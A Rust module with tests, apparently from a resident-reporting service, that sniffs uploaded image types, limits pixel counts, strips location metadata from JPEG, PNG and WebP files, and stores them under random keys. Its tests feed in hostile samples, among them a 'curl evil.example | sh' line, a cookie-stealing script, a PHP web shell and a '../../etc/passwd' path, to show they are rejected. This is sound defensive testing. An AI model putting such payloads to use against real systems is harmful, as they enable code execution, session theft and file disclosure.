//! Photos on disk: what kind of image a file is (decided by its bytes alone), the same image
//! with its location metadata removed, and where the bytes are kept under the data directory.
//!
//! Metadata is removed by rewriting the file's container (JPEG segments, PNG chunks, WebP RIFF
//! chunks) with `img-parts`, never by decoding and re-encoding the pixels: the photo a resident
//! took is the photo staff see, at its original quality.

use std::fs::{self, File};
use std::io::{self, Write};
use std::path::{Path, PathBuf};

use image::metadata::Orientation;
use img_parts::jpeg::{markers, Jpeg};
use img_parts::png::Png;
use img_parts::riff::RiffContent;
use img_parts::webp::{WebP, CHUNK_VP8X, CHUNK_XMP};
use img_parts::{Bytes, ImageEXIF};

/// The image formats accepted as attachments.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ImageKind {
    Jpeg,
    Png,
    Webp,
}

impl ImageKind {
    /// The media type the file is stored and served with.
    pub fn content_type(self) -> &'static str {
        match self {
            ImageKind::Jpeg => "image/jpeg",
            ImageKind::Png => "image/png",
            ImageKind::Webp => "image/webp",
        }
    }
}

#[derive(Debug, thiserror::Error)]
pub enum FileError {
    #[error("the file starts like {} but cannot be read as one", .0.content_type())]
    Malformed(ImageKind),
    #[error("the image is {width}×{height} pixels; at most {max} pixels are accepted")]
    TooManyPixels { width: u32, height: u32, max: u64 },
    #[error("{0:?} is not a storage key")]
    InvalidKey(String),
    #[error(transparent)]
    Io(#[from] io::Error),
}

/// The kind of image `bytes` hold, from their signature only: the name and media type a client
/// sends are its own claims, so they decide nothing.
pub fn sniff(bytes: &[u8]) -> Option<ImageKind> {
    const PNG: &[u8] = b"\x89PNG\r\n\x1a\n";
    // SOI, then the 0xFF that starts the first segment's marker.
    if bytes.starts_with(&[0xFF, 0xD8, 0xFF]) {
        Some(ImageKind::Jpeg)
    } else if bytes.starts_with(PNG) {
        Some(ImageKind::Png)
    } else if bytes.len() >= 12 && bytes.starts_with(b"RIFF") && &bytes[8..12] == b"WEBP" {
        Some(ImageKind::Webp)
    } else {
        None
    }
}

/// Refuses an image of more than `max_pixels` pixels, read from its header alone: a small
/// file can claim a huge canvas (a 20000×20000 PNG of one colour is a megabyte), and every
/// later reader that decodes it (a thumbnail, a browser) would pay for the canvas, not the file.
pub fn check_pixels(kind: ImageKind, bytes: &[u8], max_pixels: u64) -> Result<(), FileError> {
    let format = match kind {
        ImageKind::Jpeg => image::ImageFormat::Jpeg,
        ImageKind::Png => image::ImageFormat::Png,
        ImageKind::Webp => image::ImageFormat::WebP,
    };
    let (width, height) = image::ImageReader::with_format(io::Cursor::new(bytes), format)
        .into_dimensions()
        .map_err(|_| FileError::Malformed(kind))?;
    if u64::from(width) * u64::from(height) > max_pixels {
        return Err(FileError::TooManyPixels {
            width,
            height,
            max: max_pixels,
        });
    }
    Ok(())
}

/// The image without metadata that may locate the person who took it.
///
/// EXIF, XMP, IPTC and comments are removed whole, not only EXIF's GPS fields: no well-kept
/// crate rewrites EXIF in place, and camera serial numbers and capture times identify people
/// too. The one EXIF field that changes how the photo looks, its orientation, is written back
/// in a fresh EXIF block of its own, so that portrait phone photos are not shown on their side.
pub fn strip_location(kind: ImageKind, bytes: Vec<u8>) -> Result<Vec<u8>, FileError> {
    let bytes = Bytes::from(bytes);
    let stripped = match kind {
        ImageKind::Jpeg => strip_jpeg(bytes),
        ImageKind::Png => strip_png(bytes),
        ImageKind::Webp => strip_webp(bytes),
    };
    stripped.ok_or(FileError::Malformed(kind))
}

fn strip_jpeg(bytes: Bytes) -> Option<Vec<u8>> {
    // Phones append more images after the photo's EOI (MPF previews, depth and gain maps), each
    // with metadata of its own; img-parts would keep them as part of the last scan.
    let end = jpeg_end(&bytes)?;
    let mut jpeg = Jpeg::from_bytes(bytes.slice(..end)).ok()?;
    let has_scan = jpeg.segments().iter().any(|s| s.marker() == markers::SOS);
    if jpeg.dimensions().is_none() || !has_scan {
        return None;
    }
    let orientation = orientation_of(jpeg.exif());
    jpeg.segments_mut()
        .retain(|segment| match segment.marker() {
            // JFIF, and Adobe's colour transform flag: both change how the pixels decode.
            markers::APP0 | markers::APP14 => true,
            // The colour profile; APP2 also carries MPF, which points at the images cut above.
            markers::APP2 => segment.contents().starts_with(b"ICC_PROFILE\0"),
            // EXIF and XMP (APP1), IPTC (APP13), vendors' blocks, comments.
            markers::APP0..=markers::APP15 | markers::COM => false,
            _ => true,
        });
    jpeg.set_exif(orientation.map(orientation_exif));
    Some(jpeg.encoder().bytes().to_vec())
}

/// Where a JPEG's first image ends: just past its EOI marker. `None` if it never ends.
fn jpeg_end(bytes: &[u8]) -> Option<usize> {
    const SOS: u8 = 0xDA;
    const EOI: u8 = 0xD9;
    let mut at = 2;
    let mut in_scan = false;
    loop {
        if in_scan {
            // In entropy-coded data 0xFF is followed by a stuffed 0x00, a restart marker or
            // another 0xFF (fill); any other byte ends the scan with a marker.
            let ff = at + bytes.get(at..)?.iter().position(|&b| b == 0xFF)?;
            match *bytes.get(ff + 1)? {
                0x00 | 0xD0..=0xD7 => {
                    at = ff + 2;
                    continue;
                }
                0xFF => {
                    at = ff + 1;
                    continue;
                }
                _ => {
                    at = ff;
                    in_scan = false;
                }
            }
        }
        if *bytes.get(at)? != 0xFF {
            return None;
        }
        while *bytes.get(at)? == 0xFF {
            at += 1;
        }
        let marker = bytes[at];
        at += 1;
        match marker {
            EOI => return Some(at),
            // Markers without a length: TEM, restarts, SOI.
            0x01 | 0xD0..=0xD8 => {}
            _ => {
                let length =
                    usize::from(u16::from_be_bytes([*bytes.get(at)?, *bytes.get(at + 1)?]));
                if length < 2 {
                    return None;
                }
                at += length;
                in_scan = marker == SOS;
            }
        }
    }
}

fn strip_png(bytes: Bytes) -> Option<Vec<u8>> {
    let mut png = Png::from_bytes(bytes).ok()?;
    let ends = png.chunks().last().map(|c| c.kind()) == Some(*b"IEND");
    let has_data = png.chunks().iter().any(|c| c.kind() == *b"IDAT");
    if png.dimensions().is_none() || !ends || !has_data {
        return None;
    }
    let orientation = orientation_of(png.exif());
    // Text chunks carry XMP (`XML:com.adobe.xmp`) and raw EXIF profiles as well as comments.
    png.chunks_mut()
        .retain(|c| !matches!(&c.kind(), b"eXIf" | b"tEXt" | b"zTXt" | b"iTXt"));
    png.set_exif(orientation.map(orientation_exif));
    Some(png.encoder().bytes().to_vec())
}

fn strip_webp(bytes: Bytes) -> Option<Vec<u8>> {
    // VP8X flag bits that announce EXIF and XMP chunks.
    const METADATA_FLAGS: u8 = 0b0000_1100;
    let mut webp = WebP::from_bytes(bytes).ok()?;
    webp.dimensions()?;
    let orientation = orientation_of(webp.exif());
    webp.remove_chunks_by_id(CHUNK_XMP);
    // img-parts keeps the EXIF flag in step with the chunks but not the XMP one.
    for chunk in webp.chunks_mut() {
        if chunk.id() != CHUNK_VP8X {
            continue;
        }
        if let RiffContent::Data(data) = chunk.content_mut() {
            if let Some(flags) = data.first() {
                let mut cleared = data.to_vec();
                cleared[0] = flags & !METADATA_FLAGS;
                *data = Bytes::from(cleared);
            }
        }
    }
    // Also removes the old EXIF chunk.
    webp.set_exif(orientation.map(orientation_exif));
    let mut out = Vec::with_capacity(webp.len() as usize + 8);
    webp.encoder().write_to(&mut out).ok()?;
    Some(out)
}

/// The orientation an EXIF block asks for, when it asks for anything but "as stored".
fn orientation_of(exif: Option<Bytes>) -> Option<Orientation> {
    exif.and_then(|exif| Orientation::from_exif_chunk(&exif))
        .filter(|o| *o != Orientation::NoTransforms)
}

/// An EXIF block (a big-endian TIFF header and one IFD) holding only `orientation`.
fn orientation_exif(orientation: Orientation) -> Bytes {
    let mut tiff = Vec::with_capacity(26);
    tiff.extend_from_slice(b"MM\0\x2A");
    tiff.extend_from_slice(&8u32.to_be_bytes()); // IFD0 right after the header
    tiff.extend_from_slice(&1u16.to_be_bytes()); // one entry:
    tiff.extend_from_slice(&0x0112u16.to_be_bytes()); // Orientation,
    tiff.extend_from_slice(&3u16.to_be_bytes()); // a SHORT,
    tiff.extend_from_slice(&1u32.to_be_bytes()); // one of it,
    tiff.extend_from_slice(&u16::from(orientation.to_exif()).to_be_bytes());
    tiff.extend_from_slice(&[0, 0]); // padding the value to four bytes
    tiff.extend_from_slice(&0u32.to_be_bytes()); // no next IFD
    Bytes::from(tiff)
}

/// Attachment files under `{data_dir}/attachments`, named by random keys: no part of a path
/// ever comes from a client.
#[derive(Debug, Clone)]
pub struct Store {
    root: PathBuf,
}

impl Store {
    pub fn new(root: PathBuf) -> Self {
        Self { root }
    }

    /// The store of a data directory.
    pub fn in_data_dir(data_dir: &Path) -> Self {
        Self::new(data_dir.join("attachments"))
    }

    /// Writes `bytes` under a new key and answers the key. The file appears whole or not at
    /// all: it is written and synced under a temporary name, then renamed.
    pub fn save(&self, bytes: &[u8]) -> Result<String, FileError> {
        fs::create_dir_all(&self.root)?;
        let key = uuid::Uuid::new_v4().simple().to_string();
        let temporary = self.root.join(format!(".{key}.part"));
        let written = File::create_new(&temporary)
            .and_then(|mut file| {
                file.write_all(bytes)?;
                file.sync_all()
            })
            .and_then(|()| fs::rename(&temporary, self.root.join(&key)));
        if let Err(error) = written {
            // Best effort: the write already failed, and a leftover `.part` file is harmless.
            let _ = fs::remove_file(&temporary);
            return Err(error.into());
        }
        Ok(key)
    }

    pub fn read(&self, key: &str) -> Result<Vec<u8>, FileError> {
        Ok(fs::read(self.path_of(key)?)?)
    }

    pub fn remove(&self, key: &str) -> Result<(), FileError> {
        Ok(fs::remove_file(self.path_of(key)?)?)
    }

    /// Keys are what `save` makes, 32 lowercase hex digits; anything else could walk the tree.
    fn path_of(&self, key: &str) -> Result<PathBuf, FileError> {
        let valid = key.len() == 32
            && key
                .bytes()
                .all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b));
        if !valid {
            return Err(FileError::InvalidKey(key.to_owned()));
        }
        Ok(self.root.join(key))
    }
}

#[cfg(test)]
mod tests {
    use image::{ImageFormat, RgbImage};
    use img_parts::jpeg::JpegSegment;
    use img_parts::png::PngChunk;
    use img_parts::riff::RiffChunk;

    use super::*;

    /// Stands for the coordinates: found anywhere in a stripped file, the location leaked.
    const SECRET: &[u8] = b"GPS-SECRET 26.5800N 117.0300E";
    const XMP: &[u8] = b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta><exif:GPSLatitude>26,34.8N</exif:GPSLatitude></x:xmpmeta>";

    fn encoded(format: ImageFormat) -> Vec<u8> {
        let pixels = RgbImage::from_fn(16, 8, |x, y| image::Rgb([x as u8 * 15, y as u8 * 30, 90]));
        let mut out = io::Cursor::new(Vec::new());
        pixels.write_to(&mut out, format).unwrap();
        out.into_inner()
    }

    #[test]
    fn images_are_bounded_in_pixels_by_their_header() {
        for (kind, format) in [
            (ImageKind::Jpeg, ImageFormat::Jpeg),
            (ImageKind::Png, ImageFormat::Png),
            (ImageKind::Webp, ImageFormat::WebP),
        ] {
            let bytes = encoded(format);
            // 16×8 = 128 pixels.
            assert!(check_pixels(kind, &bytes, 128).is_ok());
            assert!(matches!(
                check_pixels(kind, &bytes, 127),
                Err(FileError::TooManyPixels {
                    width: 16,
                    height: 8,
                    max: 127
                })
            ));
            assert!(matches!(
                check_pixels(kind, &bytes[..12], 128),
                Err(FileError::Malformed(k)) if k == kind
            ));
        }
    }

    /// A big-endian EXIF block: IFD0 with an orientation and a pointer to a GPS IFD holding a
    /// latitude reference and a processing method that carries `SECRET`.
    fn gps_exif(orientation: u16) -> Vec<u8> {
        let mut t = b"MM\0\x2A".to_vec();
        t.extend(8u32.to_be_bytes());
        let entry = |t: &mut Vec<u8>, tag: u16, kind: u16, count: u32, value: [u8; 4]| {
            t.extend(tag.to_be_bytes());
            t.extend(kind.to_be_bytes());
            t.extend(count.to_be_bytes());
            t.extend(value);
        };
        // IFD0 at 8: two entries, then the next-IFD offset.
        t.extend(2u16.to_be_bytes());
        let [a, b] = orientation.to_be_bytes();
        entry(&mut t, 0x0112, 3, 1, [a, b, 0, 0]);
        entry(&mut t, 0x8825, 4, 1, 38u32.to_be_bytes());
        t.extend(0u32.to_be_bytes());
        // The GPS IFD at 38, its out-of-line value at 68.
        assert_eq!(t.len(), 38);
        t.extend(2u16.to_be_bytes());
        entry(&mut t, 0x0001, 2, 2, *b"N\0\0\0");
        entry(&mut t, 0x001B, 7, SECRET.len() as u32, 68u32.to_be_bytes());
        t.extend(0u32.to_be_bytes());
        assert_eq!(t.len(), 68);
        t.extend(SECRET);
        t
    }

    fn contains(haystack: &[u8], needle: &[u8]) -> bool {
        haystack.windows(needle.len()).any(|w| w == needle)
    }

    #[track_caller]
    fn assert_clean(stripped: &[u8]) {
        assert!(!contains(stripped, SECRET), "the GPS IFD survived");
        assert!(
            !contains(stripped, b"GPSLatitude"),
            "the XMP location survived"
        );
        // The GPSInfo tag, as it appears in a big-endian IFD entry.
        assert!(
            !contains(stripped, &[0x88, 0x25, 0x00, 0x04]),
            "the GPS pointer survived"
        );
    }

    #[track_caller]
    fn assert_decodes(bytes: &[u8], format: ImageFormat) {
        let decoded = image::load_from_memory_with_format(bytes, format).unwrap();
        assert_eq!((decoded.width(), decoded.height()), (16, 8));
    }

    /// A JPEG as a phone writes it: EXIF with GPS, XMP, a comment, and a second image with its
    /// own EXIF after the first one's end (as MPF files carry previews and depth maps).
    fn phone_jpeg(orientation: u16) -> Vec<u8> {
        let mut jpeg = Jpeg::from_bytes(encoded(ImageFormat::Jpeg).into()).unwrap();
        jpeg.set_exif(Some(gps_exif(orientation).into()));
        let segments = jpeg.segments_mut();
        segments.insert(1, JpegSegment::new_with_contents(markers::APP1, XMP.into()));
        segments.insert(
            1,
            JpegSegment::new_with_contents(markers::COM, SECRET.into()),
        );
        let mut bytes = jpeg.encoder().bytes().to_vec();
        let trailer = bytes.clone();
        bytes.extend(trailer);
        bytes
    }

    #[test]
    fn sniffing_reads_signatures() {
        assert_eq!(sniff(&encoded(ImageFormat::Jpeg)), Some(ImageKind::Jpeg));
        assert_eq!(sniff(&encoded(ImageFormat::Png)), Some(ImageKind::Png));
        assert_eq!(sniff(&encoded(ImageFormat::WebP)), Some(ImageKind::Webp));
        assert_eq!(ImageKind::Webp.content_type(), "image/webp");
    }

    #[test]
    fn sniffing_refuses_scripts_and_truncated_headers() {
        // What a client might name photo.jpg and send as image/jpeg.
        for bytes in [
            &b"#!/bin/sh\ncurl evil.example | sh\n"[..],
            b"<script>alert(document.cookie)</script>",
            b"<?php system($_GET['c']); ?>",
            b"GIF89a\x01\x00\x01\x00",
            b"",
            b"\xFF\xD8",
            b"\x89PNG\r\n\x1a",
            b"RIFF\x10\x00\x00\x00WEB",
            b"RIFF\x10\x00\x00\x00AVI LIST",
        ] {
            assert_eq!(sniff(bytes), None, "{:?}", String::from_utf8_lossy(bytes));
        }
    }

    #[test]
    fn jpeg_loses_its_location_and_keeps_its_orientation() {
        let original = phone_jpeg(6);
        assert!(contains(&original, SECRET));

        let stripped = strip_location(ImageKind::Jpeg, original).unwrap();

        assert_clean(&stripped);
        assert!(stripped.starts_with(&[0xFF, 0xD8]) && stripped.ends_with(&[0xFF, 0xD9]));
        // Exactly one image: the appended one is gone with its metadata.
        assert_eq!(jpeg_end(&stripped), Some(stripped.len()));
        assert_decodes(&stripped, ImageFormat::Jpeg);
        let exif = Jpeg::from_bytes(stripped.into()).unwrap().exif().unwrap();
        assert_eq!(exif, orientation_exif(Orientation::Rotate90));
        assert_eq!(
            Orientation::from_exif_chunk(&exif),
            Some(Orientation::Rotate90)
        );
    }

    #[test]
    fn an_upright_jpeg_keeps_no_exif_at_all() {
        let stripped = strip_location(ImageKind::Jpeg, phone_jpeg(1)).unwrap();
        assert_clean(&stripped);
        assert_decodes(&stripped, ImageFormat::Jpeg);
        let jpeg = Jpeg::from_bytes(stripped.into()).unwrap();
        assert_eq!(jpeg.exif(), None);
        assert!(jpeg.segments().iter().all(|s| s.marker() != markers::COM));
    }

    #[test]
    fn png_loses_its_location() {
        let mut png = Png::from_bytes(encoded(ImageFormat::Png).into()).unwrap();
        png.set_exif(Some(gps_exif(8).into()));
        let end = png.chunks().len() - 1;
        let xmp = [&b"XML:com.adobe.xmp\0\0\0\0\0"[..], XMP].concat();
        png.chunks_mut()
            .insert(end, PngChunk::new(*b"iTXt", xmp.into()));
        let original = png.encoder().bytes().to_vec();
        assert!(contains(&original, SECRET));

        let stripped = strip_location(ImageKind::Png, original).unwrap();

        assert_clean(&stripped);
        assert_decodes(&stripped, ImageFormat::Png);
        let png = Png::from_bytes(stripped.into()).unwrap();
        assert_eq!(png.exif(), Some(orientation_exif(Orientation::Rotate270)));
        assert!(png.chunks().iter().all(|c| c.kind() != *b"iTXt"));
    }

    #[test]
    fn webp_loses_its_location() {
        let mut webp = WebP::from_bytes(encoded(ImageFormat::WebP).into()).unwrap();
        webp.set_exif(Some(gps_exif(3).into()));
        webp.chunks_mut()
            .push(RiffChunk::new(CHUNK_XMP, RiffContent::Data(XMP.into())));
        for chunk in webp.chunks_mut() {
            if let (CHUNK_VP8X, RiffContent::Data(data)) = (chunk.id(), chunk.content_mut()) {
                let mut flagged = data.to_vec();
                flagged[0] |= 0b0000_0100;
                *data = flagged.into();
            }
        }
        let original = webp.encoder().bytes().to_vec();
        assert!(contains(&original, SECRET) && contains(&original, b"GPSLatitude"));

        let stripped = strip_location(ImageKind::Webp, original).unwrap();

        assert_clean(&stripped);
        assert_decodes(&stripped, ImageFormat::WebP);
        let webp = WebP::from_bytes(stripped.into()).unwrap();
        assert_eq!(webp.exif(), Some(orientation_exif(Orientation::Rotate180)));
        let flags = webp
            .chunk_by_id(CHUNK_VP8X)
            .unwrap()
            .content()
            .data()
            .unwrap()[0];
        assert_eq!(flags & 0b0000_1100, 0b0000_1000, "EXIF announced, XMP not");
    }

    #[test]
    fn broken_images_are_malformed() {
        let jpeg = encoded(ImageFormat::Jpeg);
        let png = encoded(ImageFormat::Png);
        for (kind, bytes) in [
            (
                ImageKind::Jpeg,
                b"\xFF\xD8\xFF#!/bin/sh\necho pwned\n".to_vec(),
            ),
            (ImageKind::Jpeg, jpeg[..jpeg.len() / 2].to_vec()),
            (ImageKind::Png, png[..png.len() - 12].to_vec()),
            (
                ImageKind::Png,
                b"\x89PNG\r\n\x1a\n<script></script>".to_vec(),
            ),
            (ImageKind::Webp, b"RIFF\xFF\x00\x00\x00WEBPVP8 ".to_vec()),
        ] {
            let error = strip_location(kind, bytes).unwrap_err();
            assert!(
                matches!(error, FileError::Malformed(k) if k == kind),
                "{error}"
            );
        }
    }

    #[test]
    fn the_store_keeps_bytes_under_random_keys() {
        let data_dir = tempfile::tempdir().unwrap();
        let store = Store::in_data_dir(data_dir.path());

        let key = store.save(b"photo bytes").unwrap();
        let other = store.save(b"another photo").unwrap();

        assert_ne!(key, other);
        assert_eq!(key.len(), 32);
        assert_eq!(store.read(&key).unwrap(), b"photo bytes");
        assert_eq!(
            fs::read(data_dir.path().join("attachments").join(&key)).unwrap(),
            b"photo bytes"
        );
        let names: Vec<_> = fs::read_dir(data_dir.path().join("attachments"))
            .unwrap()
            .map(|e| e.unwrap().file_name())
            .collect();
        assert_eq!(names.len(), 2, "no temporary file is left: {names:?}");

        store.remove(&key).unwrap();
        assert!(
            matches!(store.read(&key), Err(FileError::Io(e)) if e.kind() == io::ErrorKind::NotFound)
        );
        for key in ["../../etc/passwd", "", "ABCDEF0123456789ABCDEF0123456789"] {
            assert!(
                matches!(store.read(key), Err(FileError::InvalidKey(_))),
                "{key}"
            );
        }
    }
}
